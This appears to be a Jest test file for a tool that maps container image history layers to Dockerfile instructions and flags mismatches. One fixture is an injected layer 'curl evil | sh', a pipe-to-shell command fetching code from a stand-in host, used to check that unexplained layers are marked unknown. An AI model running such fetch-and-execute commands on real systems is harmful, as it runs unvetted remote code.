import { describe, expect, test } from '@jest/globals';
import type { History } from '../../../src/model/oci.ts';
import { bk, debian, describeLayers, empty, lines, service, serviceHistory } from '../history-image.ts';

describe('no confident wrong line', () => {
  const other: History[] = [
    ...debian,
    bk('WORKDIR /app'),
    bk('COPY go.mod go.sum ./ # buildkit'),
    bk('RUN /bin/sh -c go build -o /app/server ./cmd/server # buildkit'),
    bk('RUN /bin/sh -c useradd -m node # buildkit'),
    empty('USER node'),
    empty('EXPOSE map[80/tcp:{}]'),
    empty('CMD ["/app/server"]'),
  ];
  test.each<[string, (History | null)[], string, string[]]>([
    ["another Dockerfile's image", other, service, ['dockerfile-image-mismatch']],
    ['docker import', [{ comment: 'Imported from -' }], service, ['image-history-missing']],
    ['docker import, and nothing but empty objects', [null, null], service, ['image-history-missing']],
    ['ko', [{ author: 'ko', created_by: 'ko build ko://example.test/app' }], service, ['image-history-missing']],
    ['nix', [{ comment: "store paths: ['/nix/store/abc-hello']" }], service, ['image-history-missing']],
    ['the base image itself', debian, service, ['dockerfile-image-mismatch']],
  ])('%s', (_name, history, text, codes) => {
    const found = describeLayers(history, text);
    expect(found.layers.filter((layer) => layer !== 'unknown')).toEqual([]);
    expect(found.codes).toEqual(codes);
    for (const { level, remedy } of found.notifications)
      expect([level, remedy]).toEqual(['warning', expect.any(String)]);
  });

  test('history and layers that differ in number', () => {
    expect(describeLayers(serviceHistory, service, { layers: 4 })).toMatchObject({
      layers: ['unknown', 'unknown', 'unknown', 'unknown'],
      codes: ['image-history-missing'],
    });
  });

  test('export and import of everything into one layer keeps the history but not whose files are whose', () => {
    const squashed = serviceHistory.map((entry) => ({ ...entry, empty_layer: true }));
    const merge: History = { comment: 'merge sha256:0123 to sha256:4567' };
    expect(describeLayers([...squashed, merge], service).layers).toEqual(['unknown']);
  });

  test('a Dockerfile from scratch under an image that has layers below', () => {
    const text = 'FROM scratch\nCOPY app /app\nCMD ["/app"]\n';
    const history = [...debian, bk('COPY app /app # buildkit'), empty('CMD ["/app"]')];
    expect(describeLayers(history, text)).toMatchObject({
      layers: ['unknown', 'dockerfile 2 high'],
      codes: ['dockerfile-image-differs'],
    });
  });

  test('one of two equal instructions is missing: either may be the one', () => {
    const text = 'FROM debian\nCOPY a b\nRUN make\nRUN make\nCMD ["x"]\n';
    const history = [...debian, bk('COPY a b # buildkit'), bk('RUN /bin/sh -c make # buildkit'), empty('CMD ["x"]')];
    expect(describeLayers(history, text).layers).toEqual([
      'base 1 high',
      'dockerfile 2 high',
      expect.stringMatching(/^dockerfile [34] inferred$/),
    ]);
  });

  test('a layer on top that the Dockerfile has nothing of', () => {
    const history = [...serviceHistory, bk('RUN /bin/sh -c curl evil | sh # buildkit')];
    expect(describeLayers(history, service)).toMatchObject({
      layers: ['base 1 high', ...lines(2, 3, 4, 5), 'unknown'],
      codes: ['dockerfile-image-differs'],
    });
  });

  test('an instruction at the top of the Dockerfile was changed since: its layer may be the base image', () => {
    const text = 'FROM debian\nRUN apt-get install -y curl\nCOPY . /app\nRUN make\n';
    const history = [
      ...debian,
      bk('RUN /bin/sh -c true # buildkit'),
      bk('COPY . /app # buildkit'),
      bk('RUN /bin/sh -c make # buildkit'),
    ];
    expect(describeLayers(history, text).layers).toEqual(['base 1 inferred', 'unknown', ...lines(3, 4)]);
  });
});
